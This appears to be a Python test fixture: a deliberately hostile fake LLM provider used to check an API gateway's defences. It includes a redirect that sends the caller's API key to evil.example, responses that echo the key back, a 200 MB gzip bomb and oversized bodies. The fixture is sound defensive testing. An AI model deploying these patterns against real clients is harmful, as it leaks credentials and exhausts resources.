"""A provider that misbehaves on purpose, speaking the OpenAI, Anthropic and Gemini wire formats.

It answers every path the gateway may reach and records what arrived. The model name picks the
misbehaviour:

- ``echo``: the key it received comes back in headers (plus cookies and account ids) and the body;
- ``echo-split``: an SSE stream with the key split across two chunks;
- ``redirect``: a 302 whose Location carries the key;
- ``huge``: a 100 MB JSON body, usage at its end;
- ``gzip-bomb``: a small gzip body that inflates to 200 MB;
- ``brotli``: a body labelled with an encoding nobody asked for;
- ``slow``: waits 30 s before a non-streaming answer (and counts the cancellation);
- ``hold``: waits 2 s before answering (a hog's request);
- ``usage-junk``: usage counts that are absurd (2**63, negative, strings).
"""

from __future__ import annotations

import asyncio
import gzip
import json
from dataclasses import dataclass, field
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route


@dataclass
class HostileState:
    requests: list[dict[str, Any]] = field(default_factory=list)
    cancelled: int = 0
    holding: int = 0


def _key(headers: dict[str, str]) -> str:
    auth = headers.get("authorization", "")
    return auth.removeprefix("Bearer ") or headers.get("x-api-key", "") or headers.get("x-goog-api-key", "")


def _usage(wire: str, junk: bool = False) -> dict[str, Any]:
    if wire == "anthropic":
        return {"input_tokens": 2**63 if junk else 11, "output_tokens": -5 if junk else 7}
    if wire == "google":
        return {"promptTokenCount": "many" if junk else 11, "candidatesTokenCount": 7}
    return {"prompt_tokens": 2**63 if junk else 11, "completion_tokens": 7.5 if junk else 7, "total_tokens": 18}


def build_hostile_app(state: HostileState) -> Starlette:
    async def anything(request: Request) -> Response:
        body = await request.body()
        headers = {k.lower(): v for k, v in request.headers.items()}
        try:
            payload = json.loads(body) if body else {}
        except ValueError:
            payload = {}
        path = request.url.path
        state.requests.append({"method": request.method, "path": path, "query": str(request.url.query),
                               "headers": headers, "body": body})
        wire = "anthropic" if path.startswith("/v1/messages") else "google" if "/models/" in path else "openai"
        model = payload.get("model") if isinstance(payload, dict) else None
        if wire == "google":
            model = path.rsplit("/", 1)[-1].split(":")[0]
        key = _key(headers)
        if model == "echo":
            return JSONResponse(
                {"id": "x", "echo": f"you sent {key}", "partial": key[:-4] + "...", "usage": _usage(wire)},
                headers={"x-echo-key": key, "set-cookie": f"session={key}", "openai-organization": "org-secret",
                         "openai-project": "proj-secret", "anthropic-organization-id": "org-anthropic",
                         "x-ratelimit-remaining-requests": "99", "request-id": "req_1"})
        if model == "echo-split":
            middle = len(key) // 2

            async def split():
                yield b'data: {"choices":[{"index":0,"delta":{"content":"key=' + key[:middle].encode()
                await asyncio.sleep(0.05)
                yield key[middle:].encode() + b'"}}]}\n\n'
                yield b'data: {"choices":[],"usage":' + json.dumps(_usage("openai")).encode() + b"}\n\n"
                yield b"data: [DONE]\n\n"

            return StreamingResponse(split(), media_type="text/event-stream")
        if model == "redirect":
            return Response(status_code=302, headers={"location": f"https://evil.example/?k={key}"})
        if model == "huge":
            async def huge():
                yield b'{"id":"x","data":"'
                block = b"a" * (1024 * 1024)
                for _ in range(100):
                    yield block
                yield b'","usage":' + json.dumps(_usage(wire)).encode() + b"}"

            return StreamingResponse(huge(), media_type="application/json")
        if model == "gzip-bomb":
            inner = b'{"id":"x","data":"' + b"a" * (200 * 1024 * 1024) + b'","usage":' + json.dumps(_usage(wire)).encode() + b"}"
            return Response(gzip.compress(inner, 9), media_type="application/json", headers={"content-encoding": "gzip"})
        if model == "brotli":
            return Response(b"\x0b\x02\x80not-really-brotli", media_type="application/json", headers={"content-encoding": "br"})
        if model in ("slow", "hold"):
            state.holding += 1
            try:
                for _ in range(300 if model == "slow" else 20):
                    await asyncio.sleep(0.1)
                    if await request.is_disconnected():
                        state.cancelled += 1  # the gateway hung up: the provider stops generating
                        return Response(status_code=499)
            finally:
                state.holding -= 1
        junk = model == "usage-junk"
        if wire == "anthropic":
            return JSONResponse({"id": "msg", "type": "message", "role": "assistant", "model": model, "content": [],
                                 "usage": _usage(wire, junk)})
        if wire == "google":
            return JSONResponse({"candidates": [], "usageMetadata": _usage(wire, junk), "modelVersion": model})
        return JSONResponse({"id": "x", "object": "chat.completion", "model": model, "choices": [],
                             "usage": _usage(wire, junk)})

    methods = ["GET", "POST", "PUT", "PATCH", "DELETE"]
    return Starlette(routes=[Route("/{path:path}", anything, methods=methods)])
